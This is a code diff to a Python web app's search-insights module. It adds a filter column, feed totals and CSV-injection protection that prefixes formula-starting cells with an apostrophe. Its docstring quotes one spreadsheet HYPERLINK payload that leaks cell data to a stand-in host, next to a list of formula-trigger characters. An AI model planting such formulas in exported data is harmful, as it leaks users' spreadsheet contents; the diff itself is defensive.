@@ -4,6 +4,13 @@ twin ``/insikter.csv``, and ``python -m webapp insights``. One function, ``repor
 The page and the CSV exist only when ``INSIGHTS_TOKEN`` is set (otherwise 404). The token comes in
 the ``X-Insights-Token`` header, ``Authorization: Bearer``, or the form field ``token`` (the page's
 own form posts it); never in a cookie or the URL. A wrong or missing token gets 401 and the form.
+
+The CSV holds what visitors typed, and a spreadsheet reads a cell that starts with "=", "+", "-",
+"@", a tab or a carriage return as a formula: a visitor who searches for
+``=HYPERLINK("http://x/?"&A1,"k")`` would put a live link in the editor's sheet. Every text cell
+that starts with one of those characters gets a leading "'" (OWASP's rule for CSV injection),
+which the spreadsheet shows as text and does not display; numbers are written as numbers. A
+query that starts with "-" (a visitor excluding a word) therefore reads "'-hamn" in the CSV.
 """
 
 from __future__ import annotations
@@ -31,6 +38,7 @@ TOP = 20  # rows per table
 CSV_COLUMNS = (
     "fråga",
     "sökningar",
+    "med filter",
     "utan träffar",
     "delvis träff",
     "stavningsrättad",
@@ -39,12 +47,19 @@ CSV_COLUMNS = (
     "öppnade avsnitt",
 )
 
+#: What makes a spreadsheet read a cell as a formula (OWASP, CSV injection), also in full-width forms.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
 QUERY_TOTALS = """
-SELECT query, SUM(searches) AS searches, SUM(zero_hits) AS zero_hits, SUM(partial) AS partial, SUM(typo) AS typo,
-       SUM(synonym) AS synonym,
-       (SELECT hits FROM searches AS last WHERE last.query = s.query ORDER BY day DESC LIMIT 1) AS hits,
+SELECT query, SUM(searches) AS searches, SUM(filtered) AS filtered, SUM(zero_hits) AS zero_hits,
+       SUM(partial) AS partial, SUM(typo) AS typo, SUM(synonym) AS synonym,
+       (SELECT hits FROM searches AS last WHERE last.query = s.query AND last.searches > last.filtered
+        ORDER BY day DESC LIMIT 1) AS hits,
        (SELECT COALESCE(SUM(opened), 0) FROM opened WHERE opened.query = s.query) AS opened
 FROM searches AS s GROUP BY query
+"""
+FEED_TOTALS = """
+SELECT query, SUM(polls) AS polls, COUNT(*) AS days FROM feeds GROUP BY query ORDER BY polls DESC, query LIMIT ?
 """
 
 
@@ -63,6 +78,7 @@ def report(path: Path, top: int = TOP) -> dict:
         "weeks": [],
         "synonyms": [],
         "opened": [],
+        "feeds": [],
         "counts": {"written": 0, "dropped": 0},
     }
     if not path.exists():
@@ -78,6 +94,7 @@ def report(path: Path, top: int = TOP) -> dict:
 
 
 def _read(connection: sqlite3.Connection, top: int) -> dict:
+    _read_as_current(connection)
     connection.row_factory = sqlite3.Row
     queries = [dict(row) for row in connection.execute(QUERY_TOTALS + " ORDER BY searches DESC, query")]
     days = connection.execute("SELECT day, SUM(searches), SUM(zero_hits) FROM searches GROUP BY day").fetchall()
@@ -101,8 +118,18 @@ def _read(connection: sqlite3.Connection, top: int) -> dict:
                 (top,),
             )
         ],
+        "feeds": [dict(row) for row in connection.execute(FEED_TOTALS, (top,))],
         "counts": {"written": 0, "dropped": 0, **dict(connection.execute("SELECT name, value FROM counts"))},
     }
+
+
+def _read_as_current(connection: sqlite3.Connection) -> None:
+    """A log no writer has upgraded yet (``querylog._upgrade``) read as the current kind: its searches with
+    ``filtered`` 0 and no feeds, through temporary objects of this read-only connection, which shadow its own."""
+    if "filtered" not in {row[1] for row in connection.execute("PRAGMA table_info(searches)")}:
+        connection.execute("CREATE TEMP VIEW searches AS SELECT *, 0 AS filtered FROM main.searches")
+    if not connection.execute("SELECT 1 FROM sqlite_master WHERE name = 'feeds'").fetchone():
+        connection.execute("CREATE TEMP TABLE feeds (day TEXT, query TEXT, polls INTEGER)")
 
 
 def _weeks(days) -> list[dict]:
@@ -116,15 +143,20 @@ def _weeks(days) -> list[dict]:
 
 
 def to_csv(queries: list[dict]) -> str:
-    """Every query of the log with its totals, one row each."""
+    """Every query of the log with its totals, one row each; no cell a spreadsheet would run."""
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")
-    writer.writerow(CSV_COLUMNS)
+    writer.writerow(map(inert, CSV_COLUMNS))
     for q in queries:
-        writer.writerow(
-            [q["query"], q["searches"], q["zero_hits"], q["partial"], q["typo"], q["synonym"], q["hits"], q["opened"]]
-        )
+        row = (q["query"], q["searches"], q["filtered"], q["zero_hits"], q["partial"], q["typo"], q["synonym"])
+        writer.writerow(map(inert, (*row, q["hits"], q["opened"])))
     return out.getvalue()
+
+
+def inert(cell):
+    """A text cell a spreadsheet shows as text: with a leading "'" if it would start a formula. Numbers as
+    they are (a spreadsheet reads -3 as a number, not a formula)."""
+    return "'" + cell if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) else cell
 
 
 @dataclass(frozen=True)
